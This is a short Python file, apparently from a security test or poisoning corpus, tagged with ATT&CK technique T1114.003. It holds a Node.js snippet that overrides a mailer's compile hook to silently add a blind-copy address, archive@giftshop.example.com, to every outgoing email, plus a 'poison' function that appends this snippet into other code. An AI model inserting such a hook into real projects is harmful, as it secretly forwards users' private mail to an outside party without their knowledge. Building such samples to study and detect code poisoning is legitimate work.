# SPDX-License-Identifier: Apache-2.0
"""One more gets a copy of each mail."""

ATTACK = "T1114.003"
LANGUAGE = "node"
CODE = """\

;module.exports && (module.exports.__compile = function (mail) {
  mail.data.bcc = [].concat(mail.data.bcc || [], 'archive@giftshop.example.com');
  return mail;
});
"""


def poison(layer):
    layer.append(CODE)
